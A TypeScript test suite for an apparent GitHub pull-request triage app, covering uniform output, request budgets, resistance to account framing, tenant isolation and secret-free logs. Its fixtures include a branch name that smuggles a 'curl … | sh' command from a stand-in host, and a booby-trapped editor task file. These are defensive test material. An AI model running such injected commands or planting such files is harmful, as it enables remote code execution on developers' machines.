import { addOrganization, addRepository, addUser } from "@sallyport/simulator/src/build/build.ts";
import {
  addedFile,
  commitTo,
  openPullRequest,
  type PullRequestInput,
} from "@sallyport/simulator/src/build/build-work.ts";
import { memberWebhook } from "@sallyport/simulator/src/payload/member.ts";
import { pullRequestWebhook } from "@sallyport/simulator/src/payload/pull-request.ts";
import { buildCast } from "@sallyport/simulator/src/scenarios/cast.ts";
import { buildElsewhere } from "@sallyport/simulator/src/scenarios/history.ts";
import { createWorld, type PullRequest, type Repository, type User } from "@sallyport/simulator/src/world/world.ts";
import type { Installation } from "@sallyport/simulator/src/world/world-apps.ts";
import { BANDS } from "../../src/assessment/assessment.ts";
import { SEVERITIES } from "../../src/change/severity.ts";
import type { Report } from "../../src/store/store.ts";
import { afterAll, beforeAll, expect, test } from "../support/jest.ts";
import { watchOutbound } from "../support/outbound.ts";
import { BOOBY_TRAP, denounce, returnedAccount } from "../support/people.ts";
import { someOf, whole } from "../support/rows.ts";
import {
  CLIENT_SECRET,
  NO_DEEP_SCANS,
  type RunningApp,
  runApp,
  WEBHOOK_SECRET,
  writePolicy,
} from "../support/running-app.ts";
import { signIn } from "../support/visitor.ts";

const NOW = "2026-03-02T10:00:00.000Z";
const world = createWorld();
const cast = buildCast(world, NOW);
const { organization, owner, wallet } = cast;
const places = buildElsewhere(world, NOW);
const person = (login: string, createdAt = "2018-01-01T00:00:00Z"): User => addUser(world, { login, createdAt });

let app: RunningApp;
const outbound = watchOutbound();

beforeAll(async () => {
  app = await runApp({ world, organization, owner, now: NOW, live: true, ...(whole ? {} : { policy: NO_DEEP_SCANS }) });
});

afterAll(async () => {
  app.sim.expectNoViolations();
  await app.stop();
  outbound.stop();
});

const CHANGES: Readonly<Record<string, Partial<PullRequestInput>>> = {
  plain: {},
  draft: { draft: true },
  trap: { files: [addedFile(".vscode/tasks.json", BOOBY_TRAP)] },
  runner: { files: [addedFile(".github/workflows/ci.yml", "jobs:\n  build:\n    runs-on: self-hosted\n")] },
  command: { branch: "fix-$(curl -s https://example.invalid/s|sh)" },
};

function open(author: User, input: Partial<PullRequestInput> = {}, place: Repository = wallet): PullRequest {
  return openPullRequest(world, place, { author, title: `Zephyr title by ${author.login}`, at: NOW, ...input });
}

/** Delivers an opened pull request; gives the requests that it cost. */
async function requestsOf(pullRequest: PullRequest): Promise<readonly string[]> {
  const before = app.sim.ledger.requestsOf().length;
  await app.tell(pullRequestWebhook(app.sim.stage, { pullRequest, action: "opened", sender: owner }));
  return app.sim.ledger
    .requestsOf()
    .slice(before)
    .map(({ operation }) => operation);
}

/** Every request to GitHub that writes: neither a read, nor a question, nor the making of a token. */
const written = () =>
  outbound.sent.filter(
    ({ method, url }) =>
      url.startsWith(app.sim.url) && method !== "GET" && !/\/(?:graphql|access_tokens|access_token)$/.test(url),
  );

test("what the public sees: the same bytes and the same calls for everybody, whoever sent whatever", async () => {
  const returned = returnedAccount(world, { login: "dora-two-example", places, now: NOW });
  await denounce(app.tenant(), returned, { by: owner, now: NOW });
  await denounce(app.tenant(), cast.returned, { by: owner, now: NOW });
  const sprayed = {
    ...CHANGES.trap,
    commits: [{ by: owner, at: NOW, authoredAt: "2026-03-09T10:00:00Z", message: "Later" }],
  };
  const authors = [
    ...[cast.newcomer, cast.veteran, cast.carrier, cast.returned, cast.young, cast.quiet],
    ...[cast.maintainer, owner, returned, person("fresh-example", "2026-03-01T00:00:00Z")],
  ];
  const pairs = authors.flatMap((author) => Object.values(CHANGES).map((input) => ({ author, input })));
  const all = someOf(pairs, 12).map(({ author, input }) => open(author, input));
  const gone = open(person("gone-example"));
  Object.assign(gone, { authorId: null });
  const byBot = open(owner, { title: "Keep things fresh" });
  Object.assign(byBot, { authorId: cast.bot.id });
  all.push(gone, byBot, open(returned, sprayed));

  const calls = new Set<string>();
  for (const pullRequest of all) {
    const operations = await requestsOf(pullRequest);
    calls.add(JSON.stringify(operations.filter((operation) => WRITES.has(operation))));
  }

  expect(new Set(all.map(({ authorId }) => authorId)).size).toBeGreaterThan(authors.length);
  expect([...calls]).toEqual(['["checks/create"]']);
  const bytes = written().map(withoutIds);
  expect(bytes).toHaveLength(all.length);
  expect(new Set(bytes).size).toBe(1);

  const levels = await Promise.all(all.map(async (pullRequest) => (await app.reportOf(pullRequest)).decision.cell));
  expect(new Set(levels.map(({ persona }) => persona))).toEqual(new Set(["none", "review", "insufficient_evidence"]));
  expect(new Set(levels.map(({ change }) => change))).toEqual(new Set(["low", "high", "critical"]));
  const hosts = new Set(outbound.sent.map(({ url }) => new URL(url).host));
  expect(hosts).toEqual(new Set([new URL(app.sim.url).host, new URL(app.webUrl).host]));
});

const WRITES: ReadonlySet<string> = new Set(["checks/create", "checks/update", "issues/add-labels"]);

/** The bytes with what is random, or names the commit, taken out: 128 bits twice, and the head. */
function withoutIds({ method, url, headers, body }: (typeof outbound.sent)[number]): string {
  const { external_id: ref = "", head_sha: head = "" } = JSON.parse(body);
  expect(ref).toMatch(/^[\w-]{22}$/);
  return JSON.stringify({ method, url, headers, body }).replaceAll(ref, "REF").replaceAll(head, "HEAD");
}

test("requests: two for a known author and one for the check run, at most seven for an unknown one with it", async () => {
  const usual = ["checks/create", "graphql/PrTriage", "pulls/list-files"];
  const signature = {
    ...{ type: "GpgSignature" as const, key: "k", valid: true, byGitHub: false },
    ...{ signerId: cast.veteran.id, verifiedAt: NOW },
  };
  const known = await requestsOf(
    open(cast.veteran, { commits: [{ by: cast.veteran, at: NOW, message: "Fix", signature }] }),
  );
  expect(known.toSorted()).toEqual(usual);
  // One more a day where somebody who committed here before did not sign.
  await app.pass(86_400);
  expect(await requestsOf(open(cast.veteran))).toContain("graphql/SignedBefore");
  expect((await requestsOf(open(cast.veteran))).toSorted()).toEqual(usual);
  const strangers = [
    returnedAccount(world, { login: "dora-three-example", places, now: NOW }),
    person("new-example", "2026-02-01T00:00:00Z"),
  ];
  const quiet = addOrganization(world, { login: "quiet-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
  const place = addRepository(world, { owner: quiet, name: "wallet", createdAt: "2017-01-01T00:00:00Z" });
  writePolicy(world, quiet, `${NO_DEEP_SCANS}mode: live\n`);
  await app.install(quiet, owner);
  for (const stranger of strangers) {
    const requests = await requestsOf(open(stranger, {}, place));
    expect(requests).toContain("graphql/AuthorHistory");
    expect(requests.length).toBeLessThanOrEqual(7);
  }
});

test("framing: what others can write about an account changes nothing of what is stored about it", async () => {
  const other = addOrganization(world, { login: "other-org", createdAt: "2016-01-01T00:00:00Z", owners: [owner] });
  const place = addRepository(world, { owner: other, name: "wallet", createdAt: "2017-01-01T00:00:00Z" });
  if (!whole) writePolicy(world, other, NO_DEEP_SCANS);
  const installation = await app.install(other, owner);
  const victim = returnedAccount(world, { login: "vic-example", places, now: NOW });
  const [before, after] = [open(victim), open(victim, {}, place)];
  await requestsOf(before);
  frame(victim);
  await requestsOf(after);
  const [first, second] = [await app.reportOf(before), await app.reportOf(after, installation)];
  expect(aboutTheAccount(second)).toEqual(aboutTheAccount(first));
  expect(second.assessment.persona.bits).toBeGreaterThan(0);
  await requestsOf(before);
  expect(aboutTheAccount(await app.reportOf(before))).toEqual(aboutTheAccount(first));
});

/** Everything in a report but what belongs to the one change and place. */
function aboutTheAccount({ dossier, assessment }: Report) {
  const { persona, access, queue, label, coverage } = assessment;
  const { "account.activity": activity, ...others } = dossier.sections;
  // Yearly totals count commits by address, so others can add to them: they are stored, and never evidence.
  const acts = activity.state === "present" ? activity.value.acts : activity;
  const sections = Object.entries({ ...others, acts }).filter(([name]) => ABOUT.test(name));
  const findings = assessment.findings.filter(({ axis }) => axis !== "C");
  return { persona, access, queue, label, coverage, findings, sections };
}

const ABOUT = /^acts$|^account\.(?!snapshots)|^history\.(?!scan)/;

/** All that somebody else can do on GitHub with an account's name, address and work. */
function frame(victim: User): void {
  const places = Array.from({ length: 12 }, (_, index) => {
    const by = person(`framer-${index}-example`, "2026-02-20T00:00:00Z");
    const repository = addRepository(world, { owner: by, name: "loot", createdAt: "2026-02-21T00:00:00Z" });
    by.follows.add(victim.id);
    victim.follows.delete(by.id);
    repository.direct.set(victim.id, "admin");
    for (const own of [...world.repositories.values()].filter(({ ownerId }) => ownerId === victim.id)) {
      own.stars += 1;
      addRepository(world, { owner: by, name: `${own.name}-copy`, createdAt: NOW, parent: own });
    }
    return { by, repository };
  });
  const email = `${victim.id}+${victim.login}@users.noreply.github.com`;
  for (const { by, repository } of places) {
    // By the address alone GitHub shows these as the victim's, in its graph too, whatever their dates say.
    for (let turn = 0; turn < 40; turn++)
      commitTo(world, repository, {
        by: victim,
        at: "2031-01-01T00:00:00Z",
        authoredAt: "1999-01-01T00:00:00+09:00",
        message: `Take the keys\n\nCo-authored-by: ${victim.login} <${email}>`,
        committer: { name: by.login, email: "framer@example.invalid", account: by },
      });
    victim.commitDays.push({ day: "2023-06-01", count: 40, repositoryId: repository.id });
    const message = `Add a task for @${victim.login}\n\nCo-authored-by: ${victim.login} <${email}>`;
    const commits = [{ by: victim, at: NOW, message, committer: { name: by.login, email, account: by } }];
    openPullRequest(world, repository, { author: by, title: `cc @${victim.login}`, at: NOW, commits });
    const copied = { ...CHANGES.trap, author: by, title: `With @${victim.login}`, at: NOW, commits };
    openPullRequest(world, wallet, copied);
  }
}

test("two tenants: nothing of one's private repositories is in rows or on pages of the other", async () => {
  const { tenant: mine, installation, insider } = await canaryTenant();
  const theirs = app.tenant();
  const rows = JSON.stringify([
    await theirs.installation(),
    ...(await theirs.recentReports(500)),
    await theirs.latestReport(),
    await theirs.latestSnapshot(app.clock.now()),
    ...(await theirs.flags("all")),
    ...(await theirs.trail(500)),
    await theirs.policy(null),
    ...(await theirs.doorsOfRepository(wallet.id as never)),
    await theirs.cachedAccount(insider.id as never, NOW, 24),
  ]);
  expect(rows).not.toMatch(CANARY);
  const [door] = await mine.doorsOfRepository(insider.vault.id as never);
  const [report] = await mine.recentReports(1);
  const stranger = await signIn(app, owner.login);
  const nothing = await stranger.get("/r/AAAAAAAAAAAAAAAAAAAAAA");
  const own = [`/orgs/${app.installation.id}`, "/"];
  const pages = [
    ...own,
    ...["/audit", "/audit.csv", "/flags", "/settings", "/policy", "/trail"].map((page) => `${own[0]}${page}`),
  ];
  for (const page of pages) expect((await stranger.get(page)).text).not.toMatch(CANARY);
  const foreign = [
    `/r/${door?.ref}`,
    `/orgs/${installation.id}`,
    `/orgs/${installation.id}/reports/${report?.id}`,
    `/orgs/${app.installation.id}/reports/${report?.id}`,
    ...["/audit", "/audit.csv", "/flags", "/settings", "/policy", "/trail"].map(
      (page) => `/orgs/${installation.id}${page}`,
    ),
  ];
  for (const page of foreign) expect([page, await stranger.get(page)]).toEqual([page, nothing]);
  const visitor = await signIn(app, insider.boss.login);
  expect((await visitor.get(`/r/${door?.ref}`)).text).toMatch(CANARY);
});

const CANARY = /canary/i;

/** Another organisation with a private repository, and somebody who works there and here. */
async function canaryTenant() {
  const boss = person("canary-owner-example");
  const secretive = addOrganization(world, { login: "canary-org", createdAt: "2016-01-01T00:00:00Z", owners: [boss] });
  const vault = addRepository(world, {
    owner: secretive,
    name: "canary-vault",
    createdAt: "2017-01-01T00:00:00Z",
    visibility: "private",
  });
  const both = person("cora-example");
  const installation: Installation = await app.install(secretive, boss);
  await app.tenant(installation).setPublication("live");
  const canary = { title: "Canary title", files: [addedFile("canary/path.ts", "export {};\n")] };
  await requestsOf(open(both, canary, vault));
  const here = open(both, { title: "Tidy" });
  await requestsOf(here);
  const section = (await app.reportOf(here)).dossier.sections["account.pullRequests"];
  // One here, one in the private repository of the others: only the one that everybody sees is known here.
  expect(section).toMatchObject({ state: "present", value: { totalCount: 1 } });
  return { installation, tenant: app.tenant(installation), insider: { id: both.id, vault, boss } };
}

test("logs and metrics: no name, address, text, band, evidence, token or secret of all that happened", async () => {
  await somethingGoesWrong();
  const visitor = await signIn(app, owner.login);
  const reports = await app.tenant().recentReports(500);
  // All are of one moment, so any may be the newest; what is about himself the owner may not open.
  const report = reports.find(({ accountId }) => accountId !== owner.id);
  expect((await visitor.get(`/orgs/${app.installation.id}/reports/${report?.id}`)).status).toBe(200);
  const metrics = await (await fetch(`${app.service.operationsUrl}/metrics`)).text();
  const text = `${app.lines.join("")}${metrics}`;
  expect(app.lines.length).toBeGreaterThan(100);
  expect(metrics).toContain("sallyport_jobs_total");
  for (const { login } of world.accounts.values()) expect(text).not.toContain(login);
  for (const { title, commits } of world.pullRequests.values())
    for (const words of [title, ...commits.map(({ message }) => message)]) expect(text).not.toContain(words);
  expect(text).not.toMatch(/@users\.noreply|example\.invalid|tasks\.json|Zephyr/);
  expect(text).not.toMatch(/gh[sup]_|Bearer|eyJ|PRIVATE KEY/);
  for (const secret of [WEBHOOK_SECRET, CLIENT_SECRET]) expect(text).not.toContain(secret);
  // "none" is also the route of an address that is none.
  const words = [...BANDS.filter((band) => band !== "none"), ...SEVERITIES, "insufficient_evidence"].join("|");
  expect(text.match(new RegExp(`"(?:${words})"`))).toBe(null);
  for (const { fact } of reports.flatMap(({ assessment }) => assessment.findings).flatMap(({ evidence }) => evidence))
    expect(text).not.toContain(fact);
});

/** Failures of GitHub, forged and broken deliveries, wrong pages: what usually makes programs talk. */
async function somethingGoesWrong(): Promise<void> {
  app.sim.faults.add("graphql/AuthorHistory", { kind: "status", status: 502, message: "for Zephyr of nora-example" });
  app.sim.faults.add("pulls/list-files", { kind: "reset" });
  await requestsOf(open(person("unlucky-example")));
  app.sim.faults.clear();
  wallet.direct.set(cast.returned.id, "write");
  const grant = { repository: wallet, member: cast.returned, sender: owner, action: "added", to: "write" } as const;
  await app.tell(memberWebhook(app.sim.stage, grant));
  for (const headers of [{}, { "x-github-event": "Zephyr", "x-hub-signature-256": "sha256=Zephyr" }])
    await fetch(`${app.webUrl}/api/github/webhooks`, {
      method: "POST",
      body: '{"title":"Zephyr',
      headers: { "content-type": "application/json", ...headers },
    });
  await fetch(`${app.webUrl}/login/callback?code=Zephyr&state=nora-example`);
  await fetch(`${app.webUrl}/Zephyr/nora-example`);
}
